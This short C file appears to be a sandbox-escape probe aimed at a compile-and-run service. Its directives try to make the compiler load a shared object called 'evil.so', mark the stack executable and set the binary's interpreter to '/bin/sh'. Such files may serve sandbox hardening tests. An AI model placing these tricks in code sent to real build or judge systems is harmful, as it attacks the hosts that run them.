#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <fcntl.h>
#include <errno.h>

#pragma GCC plugin "/box/evil.so"
__asm__(".section .note.GNU-stack,\"x\"\n.section .interp,\"a\"\n.string \"/bin/sh\"");
int main(void) { puts("0"); }
